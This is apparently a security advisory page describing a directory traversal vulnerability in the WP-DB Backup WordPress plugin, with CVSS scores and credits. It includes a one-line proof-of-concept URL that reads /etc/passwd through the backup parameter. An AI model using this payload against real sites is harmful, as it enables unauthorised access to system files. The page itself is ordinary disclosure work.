Wordpress WP-DB Backup Plugin Directory Traversal Vulnerability

Credit: ss_team
Risk: High
Local: No
Remote: Yes
CWE: CWE-Other

CVSS Base Score: 5/10
Impact Subscore: 2.9/10
Exploitability Subscore: 10/10
Exploit range: Remote
Attack complexity: Low
Authentication: No required
Confidentiality impact: Partial
Integrity impact: None
Availability impact: None

Hi all, Software: WP-DB Backup Plugin for WordpressHomepage: http://www.skippy.net/blog/category/wordpress/plugins/wp-db-backup/ Description: WP-DB Backup is vulnerable to directory traversal attack. You must have administrator rights in the wordpress blog to exploit this vulnerability. PoC: http://path-to-wordpress/wp-admin/edit.php?page=wp-db-backup.php&backup= ../../../../../etc/passwd Credits: marc & shb from ssteam are credited withdiscoverying this vulnerability. Vendor: not contacted. -- Coolest IT security blog: http://ssteam.ath.cx

Vote for this issue:


Thanks for you vote!


Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.{{ x.nick }} | Date: {{ x.ux * 1000 |date:'yyyy-MM-dd' }} {{ x.ux * 1000 | date:'HH:mm' }} CET+1
{{ x.comment }}Copyright 2024, cxsecurity.com


Back to Top